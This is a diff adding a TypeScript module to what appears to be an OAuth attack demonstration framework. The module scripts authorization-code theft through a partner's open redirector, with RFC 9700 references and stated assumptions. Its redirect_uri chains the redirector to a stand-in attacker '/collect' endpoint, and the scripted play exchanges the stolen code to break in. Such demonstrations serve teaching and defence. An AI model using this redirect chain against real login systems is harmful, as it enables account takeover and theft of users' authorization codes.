@@ -1,0 +1,33 @@
+/** The victim's code goes to the partner's own host, which sends it on to the attacker. Not: an address of the attacker's that the shop itself accepts (code-redirected.ts). */
+import { rfc } from '#sources/sources';
+import type { AttackUnit } from '../attacker/attack';
+import { breakIn } from '../attacker/break-in';
+import { addressForCode, exchangeCode } from '../attacker/partner-code';
+import { ATTACKER_ORIGIN, PARTNER_ORIGIN } from '../origins';
+
+const REDIRECT_URI = `${PARTNER_ORIGIN}/away?to=${encodeURIComponent(`${ATTACKER_ORIGIN}/collect`)}`;
+
+const attack: AttackUnit = {
+  order: 83,
+  group: 'login at a partner',
+  label: 'Code through an open redirector',
+  also: ['OAuth', 'redirect_uri', 'open redirect', 'redirector', 'authorization code'],
+  says: 'The partner’s site has a redirector that sends browsers on to any address. A link opens the shop’s real login page, with that redirector as redirect_uri. The victim logs in, the code goes to the partner’s host, and from there to the attacker.',
+  grants: ['a page that the victim opens'],
+  sources: [rfc(9700, '4.11.1'), rfc(9700, '4.1')],
+  scene: [],
+  assumes: [
+    'The shop compares only how the address begins.',
+    'The partner’s redirector passes on all other parameters, until a defence closes it.',
+    'The partner is a public client: it has no secret that the exchange could ask for.',
+  ],
+  play: async (hands) => {
+    const page = await hands.ownPage();
+    await page.openLogin(await addressForCode(REDIRECT_URI));
+    const [came] = hands.arrived();
+    if (!came) return hands.note('No code arrived at the attacker’s server.');
+    await breakIn(hands, await exchangeCode(hands, came.url, REDIRECT_URI, true));
+  },
+};
+
+export default attack;
